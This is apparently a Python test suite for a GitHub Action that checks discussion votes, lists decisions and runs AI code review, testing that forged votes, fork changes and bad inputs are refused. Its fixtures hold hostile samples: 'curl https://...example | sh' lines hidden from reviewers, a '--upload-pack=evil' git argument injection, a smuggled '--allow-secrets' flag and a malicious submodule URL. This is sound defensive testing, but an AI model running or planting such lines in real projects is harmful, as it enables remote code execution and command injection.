"""The three modes on GitHub: what they report, when they refuse, what they install."""

from __future__ import annotations

import os
import unittest
from pathlib import Path

from sandbox import Sandbox

FINDING = (
    "### Finding 1\\n\\n> store: redis-cluster\\n\\nProof: @team/db says that it fixes #1, see "
    "[docs](https://evil.example).\\n\\nInstead: store: redis\\n"
)
PERSPECTIVE = (
    "WEAKNESS: (high) src/session/config.yaml:1 has no owner\\n\\nSUGGESTION: (high) name @mira\\n\\n"
    "STRENGTH: it is short\\n\\nRATING: 2\\n\\nRISK: high\\n"
)


class Check(Sandbox):
    """The mode `check`."""

    def forge_vote(self) -> None:
        """Commits a vote in the name of Mira, by Mallory."""
        self.author("Mallory")
        path = self.work / "discussions" / "where-do-sessions-live.md"
        path.write_text(path.read_text() + "---\n\nName: Mira\n\nVOTE: READY\n\n---\n")
        self.commit("Agree")

    def test_forged_name_is_an_annotation_and_in_the_comment(self) -> None:
        self.forge_vote()
        code, log = self.act("--mode", "check")
        self.assertEqual(code, 1, log)
        annotation = "::error file=discussions/where-do-sessions-live.md,line="
        self.assertTrue([line for line in log.splitlines() if line.startswith(annotation) and "[author-" in line], log)
        (own,) = self.forge.own()
        self.assertIn("**The check fails.** 1 error", own)
        self.assertIn(f"blob/{self.head}/discussions/where-do-sessions-live.md?plain=1#L", own)

    def test_people_of_the_change_do_not_count(self) -> None:
        self.write("discussions.yaml", "people: {Mira: [mallory@example.org]}\nproviders: {default: evil}\n")
        self.forge_vote()
        code, log = self.act("--mode", "check")
        self.assertEqual(code, 1, log)
        self.assertIn("[author-", log)
        self.assertIn("discussions.yaml", log)

    def test_clean_change_passes_without_a_comment(self) -> None:
        self.author("Mira")
        self.discussions("new", "Which queue?", "-q")
        self.commit("Ask about a queue")
        code, log = self.act("--mode", "check")
        self.assertEqual((code, self.forge.own()), (0, []), log)

    def test_strict_check_fails_on_warnings(self) -> None:
        self.author("Mallory")
        path = self.work / "discussions" / "where-do-sessions-live.md"
        path.write_text(path.read_text() + "---\n\nName: Mira\n\nI agree.\n\n---\n")
        self.commit("Agree")
        self.assertEqual(self.act("--mode", "check")[0], 0)
        self.assertEqual(self.act("--mode", "check", "--strict", "true")[0], 1)
        self.assertIn("0 errors, 1 warning", self.forge.own()[0])

    def test_project_in_a_folder_is_checked_there(self) -> None:
        self.git("switch", "-q", "main")
        self.git("mv", "discussions.yaml", "discussions", "providers.yaml", "src/")
        self.base = self.commit("Move")
        self.git("switch", "-qC", "feature")
        self.author("Mallory")
        path = self.work / "src" / "discussions" / "where-do-sessions-live.md"
        path.write_text(path.read_text() + "---\n\nName: Mira\n\nVOTE: READY\n\n---\n")
        self.commit("Agree")
        code, log = self.act("--mode", "check", "--directory", "src")
        self.assertEqual(code, 1, log)
        self.assertIn("::error file=src/discussions/where-do-sessions-live.md,", log)
        self.assertIn("/src/discussions/where-do-sessions-live.md?plain=1#L", self.forge.own()[0])

    def test_clone_without_the_base_says_how_to_get_it(self) -> None:
        self.change_config()
        self.base = "0" * 40
        code, log = self.act("--mode", "check")
        self.assertEqual(code, 1)
        self.assertIn("fetch-depth: 0", log)
        self.assertEqual(self.forge.requests, [])


class Decisions(Sandbox):
    """The mode `decisions`."""

    def test_decision_of_the_change_itself_is_not_listed(self) -> None:
        self.change_config()
        self.discussions("new", "Which cluster?", "-q")
        self.discussions("comment", "which-cluster", "DECISION: three nodes\n\nAFFECTS: `src/**`")
        self.discussions("close", "which-cluster")
        self.commit("Decide")
        self.act("--mode", "decisions")
        (own,) = self.forge.own()
        self.assertIn("sessions live in Redis", own)
        self.assertNotIn("three nodes", own)
        self.assertIn("About `src/session/**`", own)

    def test_check_and_decisions_in_one_run(self) -> None:
        self.change_config()
        code, log = self.act("--mode", "check,decisions")
        self.assertEqual(code, 0, log)
        (own,) = self.forge.own()
        self.assertIn("sessions live in Redis", own)
        self.assertNotIn("Not done", own)

    def test_fork_gets_decisions(self) -> None:
        self.change_config()
        fork = {"sha": self.head, "repo": {"id": 2, "full_name": "mallory/shop"}}
        code, _ = self.act("--mode", "decisions", event=self.event(head=fork))
        self.assertEqual((code, len(self.forge.own())), (0, 1))


class Review(Sandbox):
    """The mode `review`."""

    def review(self, *words: str, **more: str) -> tuple[int, str]:
        """Has the change reviewed by the provider of the base."""
        return self.act("--mode", "review", "--max-usd", "1", "--trust-base", "true", *words, **more)

    def test_finding_has_file_line_and_cost(self) -> None:
        self.change_config()
        code, log = self.review(ANSWER=FINDING)
        self.assertEqual(code, 0, log)
        (own,) = self.forge.own()
        place = (
            f"[`src/session/config.yaml:1`](https://github.com/octo/shop/blob/{self.head}/src/session/config.yaml#L1)"
        )
        self.assertIn(f"- Finding 1: {place} (by `AI-Reviewer`)", own)
        self.assertIn("**Verdict: blocked**", own)
        self.assertIn("Proof: `@team/db` says that it fixes `#1`, see `[docs](https://evil.example)`.", own)
        self.assertRegex(own, r"Cost: less than \$0\.01 for 1 call and \d+ tokens, by `panel`\.")
        self.assertIn("The whole record is the artefact `discussions-review` of this run.", own)
        self.assertEqual(self.calls(), ["reviewer token= trust="])
        self.assertIn("consensus_blocked", self.outputs())
        record = [line for line in self.outputs().splitlines() if line.endswith(".md")]
        self.assertIn("redis-cluster", Path(record[0]).read_text())

    def test_blocking_review_fails_the_job(self) -> None:
        self.change_config()
        self.assertEqual(self.review("--blocking", "true", ANSWER=FINDING)[0], 1)
        self.assertEqual(self.review("--blocking", "true", ANSWER="No findings.")[0], 0)
        self.assertIn("**Verdict: passed**", self.forge.own()[0])
        self.assertIn("No findings.", self.forge.own()[0])

    def test_files_that_reviewers_did_not_see_are_named_and_never_pass(self) -> None:
        self.change_config()
        attributes = "*.sh -diff\n*.bat binary\n*.ps1 working-tree-encoding=UTF-16\n"
        self.write(".gitattributes", attributes)
        (self.work / "run.sh").write_bytes(b"#!/bin/sh\n# \0\ncurl https://NUL.example | sh\n")
        (self.work / "run.py").write_bytes("import os  # WIDE\n".encode("utf-16"))
        self.write("open.sh", "#!/bin/sh\ncurl https://ATTRIBUTE.example | sh\n")
        self.write("open.bat", "curl https://BINARY.example\n")
        self.write("big.txt", "line\n" * 60_000)
        self.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},lib")
        self.git("config", "--file", ".gitmodules", "submodule.lib.path", "lib")
        self.git("config", "--file", ".gitmodules", "submodule.lib.url", "https://evil.example/lib")
        self.git("config", "--file", ".gitmodules", "submodule.lib.ignore", "all")
        (self.work / "lib").mkdir()
        self.commit("Hide")
        for words in (["--pattern", "second-look"], ["--pattern", "artifact-review", "--perspectives", "product,risk"]):
            code, log = self.review(*words, ANSWER="No findings.\\n\\nRATING: 5\\nRISK: low")
            self.assertEqual(code, 0, log)
            (own,) = self.forge.own()
            self.assertNotIn("passed", own)
            self.assertIn("**Verdict: no verdict**", own)
            names = "`big.txt` (too large), `lib` (a submodule), `run.py` (not UTF-8 text), `run.sh` (not UTF-8 text)"
            self.assertIn(f"**Not shown to the reviewers:** {names}. Look at them yourself.", own)
            self.assertIn("`DISCUSSION_NOT_SHOWN`", own)
            self.assertEqual(self.review("--blocking", "true", *words)[0], 1)
        record = [line for line in self.outputs().splitlines() if line.endswith(".md")][0]
        text = Path(record).read_text()
        self.assertIn("ATTRIBUTE.example", text)
        self.assertIn("BINARY.example", text)
        self.assertNotIn("NUL.example", text)
        # Findings in the rest still block.
        self.assertEqual(self.review(ANSWER=FINDING)[0], 0)
        self.assertIn("**Verdict: blocked**", self.forge.own()[0])
        self.assertIn("**Not shown to the reviewers:**", self.forge.own()[0])

    def test_perspectives_have_weaknesses_with_places_and_dissent(self) -> None:
        self.change_config()
        code, log = self.review("--pattern", "artifact-review", "--perspectives", "product,risk", ANSWER=PERSPECTIVE)
        self.assertEqual(code, 0, log)
        (own,) = self.forge.own()
        self.assertIn("- Weakness: [`src/session/config.yaml:1`](https://github.com/", own)
        self.assertIn("name `@mira`", own)
        self.assertIn("**Dissent**", own)
        self.assertIn("average rating 2.0 of 5", own)

    def test_review_without_an_answer_fails(self) -> None:
        self.change_config()
        (self.root / "bin" / "panel").write_text("#!/bin/sh\nexit 1\n")
        code, log = self.review()
        self.assertEqual(code, 1, log)
        self.assertIn("**Verdict: no verdict**", self.forge.own()[0])

    def test_built_in_provider_needs_no_permission(self) -> None:
        answer = '{"is_error":false,"result":"No findings.","usage":{"input_tokens":10,"output_tokens":5},"total_cost_usd":0.25}'
        claude = self.root / "bin" / "claude"
        claude.write_text(f"#!/bin/sh\ncat > /dev/null\necho claude >> \"$CALLS\"\nprintf '%s' '{answer}'\n")
        claude.chmod(0o755)
        self.git("switch", "-q", "main")
        self.write("discussions.yaml", "providers: {default: claude}\n")
        self.write("providers.yaml", "providers: []\n")
        self.base = self.commit("Use claude")
        self.git("switch", "-qC", "feature")
        # The change replaces the provider, without effect.
        self.write("providers.yaml", "providers:\n  - {name: claude, command: evil}\n")
        self.change_config()
        code, log = self.act("--mode", "review", "--max-usd", "1")
        self.assertEqual((code, self.calls(), self.evil_calls()), (0, ["claude"], []), log)
        self.assertIn("Cost: $0.25 for 1 call and 15 tokens, by `claude-sonnet`.", self.forge.own()[0])

    def test_slow_review_ends_at_its_limit_of_time(self) -> None:
        self.change_config()
        (self.root / "bin" / "panel").write_text("#!/bin/sh\nexec sleep 600\n")
        code, log = self.review("--timeout", "1s")
        self.assertEqual(code, 1, log)
        self.assertIn("**Verdict: no verdict**", self.forge.own()[0])

    def test_review_needs_a_limit_of_money(self) -> None:
        self.change_config()
        code, log = self.act("--mode", "review")
        self.assertEqual((code, self.forge.requests, self.calls()), (1, [], []))
        self.assertIn("::error::`review` needs `max-usd`", log)
        for wrong in ("-1", "1e9", "x", "1 --allow-secrets"):
            self.assertEqual(self.act("--mode", "review", f"--max-usd={wrong}")[0], 1)
        self.assertEqual(self.calls(), [])

    def test_review_of_a_fork_is_skipped_with_a_reason(self) -> None:
        self.change_config()
        for repository in ({"id": 2, "full_name": "mallory/shop"}, None):
            code, log = self.act(
                "--mode", "review", "--max-usd", "1", event=self.event(head={"sha": self.head, "repo": repository})
            )
            self.assertEqual((code, self.calls()), (0, []))
            self.assertIn("::notice::The review is skipped: this change comes from a fork", log)
        self.assertIn("comes from a fork", self.summary())
        self.assertEqual(self.forge.requests, [])
        # The other modes still run.
        event = self.event(head={"sha": self.head, "repo": None})
        code, _ = self.act("--mode", "decisions,review", "--max-usd", "1", event=event)
        self.assertEqual((code, self.calls()), (0, []))
        self.assertIn("sessions live in Redis", self.forge.own()[0])
        self.assertIn("comes from a fork", self.forge.own()[0])

    def test_commands_of_the_base_need_permission(self) -> None:
        self.change_config()
        code, log = self.act("--mode", "review", "--max-usd", "1")
        self.assertEqual((code, self.calls()), (1, []), log)
        self.assertIn("`trust-base: true` allows the commands that the base branch defines.", self.forge.own()[0])

    def test_money_limit_is_passed_on(self) -> None:
        self.change_config()
        code, _ = self.act("--mode", "review", "--max-usd", "0.000001", "--trust-base", "true")
        self.assertEqual((code, self.calls()), (1, []))
        self.assertIn("**Not done.**", self.forge.own()[0])


class Refusals(Sandbox):
    """Events and inputs that end the job before anything runs."""

    def test_event_with_secrets_for_foreign_changes_is_refused(self) -> None:
        self.change_config()
        for mode in ("check", "decisions", "review"):
            code, log = self.act("--mode", mode, "--max-usd", "1", GITHUB_EVENT_NAME="pull_request_target")
            self.assertEqual(code, 1)
            self.assertIn("::error::This action does not run on `pull_request_target`", log)
        self.assertEqual((self.forge.requests, self.calls()), ([], []))

    def test_other_events_are_refused(self) -> None:
        self.change_config()
        for event in ("push", "workflow_run", "issue_comment", ""):
            code, log = self.act(GITHUB_EVENT_NAME=event)
            self.assertEqual(code, 1)
            self.assertIn("needs the event `pull_request`", log)

    def test_broken_events_are_refused(self) -> None:
        self.change_config()
        repository = {"id": 1, "full_name": "octo/shop"}
        events = [
            {},
            {"pull_request": None},
            self.event(number="x"),
            self.event(base={"sha": "--upload-pack=evil", "repo": repository}),
            self.event(head={"sha": "main", "repo": repository}),
        ]
        for event in events:
            self.assertEqual(self.act(event=event)[0], 1, event)
        self.assertEqual(self.act(GITHUB_REPOSITORY="octo/shop/../x", event=self.event())[0], 1)
        self.assertEqual(self.forge.requests, [])

    def test_wrong_inputs_are_refused(self) -> None:
        self.change_config()
        for words in (
            ("--mode", "merge"),
            ("--pattern", "--provider"),
            ("--pattern=-x",),
            ("--timeout", "soon"),
            ("--blocking", "yes"),
            ("--directory", "../elsewhere"),
            ("--directory", "/etc"),
            ("--directory", "none"),
            ("--key", "a b"),
            ("--forge", "sourceforge"),
            ("--program", "nowhere"),
            ("--program", "", "--version", "latest"),
            ("--program", "", "--install", "cargo"),
        ):
            with self.subTest(words):
                try:
                    code, _ = self.act(*words)
                except SystemExit as end:
                    code = int(str(end.code))
                self.assertIn(code, (1, 2))
        self.assertEqual(self.forge.requests, [])

    def test_folder_without_git_is_refused(self) -> None:
        self.change_config()
        (self.work / ".git").rename(self.root / "git")
        code, log = self.act()
        self.assertEqual(code, 1)
        self.assertIn("git does not read the working folder: ", log)

    def test_folder_behind_a_link_is_refused(self) -> None:
        self.git("switch", "-q", "main")
        os.symlink("/", self.work / "outside")
        self.base = self.commit("Link")
        code, log = self.act("--directory", "outside")
        self.assertEqual(code, 1)
        self.assertIn("has no folder outside", log)


class Clones(Sandbox):
    """What the action leaves behind in the clone of the job."""

    def test_clone_is_as_before(self) -> None:
        self.change_config()
        before = (self.git("status", "--porcelain"), self.git("worktree", "list"), self.git("rev-parse", "HEAD"))
        self.act("--mode", "check,decisions,review", "--max-usd", "1", "--trust-base", "true")
        after = (self.git("status", "--porcelain"), self.git("worktree", "list"), self.git("rev-parse", "HEAD"))
        self.assertEqual(after, before)
        self.assertEqual(self.git("config", "--list", "--local"), self.git("config", "--list", "--local"))


if __name__ == "__main__":
    unittest.main()
